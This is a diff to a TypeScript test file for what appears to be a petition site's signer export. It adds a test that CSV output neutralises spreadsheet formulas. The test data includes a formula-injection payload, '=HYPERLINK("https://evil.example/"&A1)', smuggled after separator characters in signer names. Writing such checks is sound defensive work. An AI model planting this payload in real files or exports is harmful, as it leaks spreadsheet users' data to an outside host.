@@ -3,6 +3,7 @@ import { test } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import { readSheet } from 'read-excel-file/node';
 import { today } from '../../../src/today.ts';
+import { eventually } from '../../support/eventually.ts';
 import { savedPetition } from '../../support/fixtures.ts';
 import { addSigner, exportSite, fileOf, madeExport } from './signers.ts';
 
@@ -56,6 +57,24 @@ test('a CSV parser reads every name as it was written, and no spreadsheet calcul
     day,
     day,
   ]);
+});
+
+test('no spreadsheet calculates what stands behind a semicolon, a tab or a line break', async (t) => {
+  const { site, petition, admin } = await exportSite(t);
+  const formula = '=HYPERLINK("https://evil.example/"&A1)';
+  const names = [';', '\t', '\n', '; ', ';"', ';;', '\r\n'].map((sign) => `Ada${sign}${formula};x`);
+  for (const name of names) await addSigner(site, petition, { name });
+  const bytes = await fileOf(admin, await madeExport(admin, {}, ['number', 'name', 'country']));
+  for (const delimiter of [';', '\t', ',']) {
+    const cells: string[][] = parse(bytes, {
+      delimiter,
+      relax_quotes: true,
+      relax_column_count: true,
+      record_delimiter: ['\r\n', '\n', '\r'],
+    });
+    const calculated = cells.flat().filter((cell) => /^[\s"]*[=+\-@]/.test(cell));
+    assert.deepEqual(calculated, [], JSON.stringify(delimiter));
+  }
 });
 
 test('each line of JSON says exactly what was written', async (t) => {
@@ -135,7 +154,10 @@ test('a box that does not open ends the file in the middle, and the log says not
   const path = await madeExport(admin);
   await site.db.query(`UPDATE signatures SET sealed = '\\x01' || decode(repeat('5a', 304), 'hex')`);
   await assert.rejects(fileOf(admin, path));
-  assert.match(await admin.read(path), /The download broke off after 0 of 1 rows/);
+  await eventually(
+    async () => (await admin.read(path)).includes('The download broke off after 0 of 1 rows'),
+    'the end of the export',
+  );
   assert.match(site.logged(), /does not open with its export keys/);
   assert.doesNotMatch(site.logged(), /Secretive|ada@example|WlpaWlpa|5a5a5a/);
 });
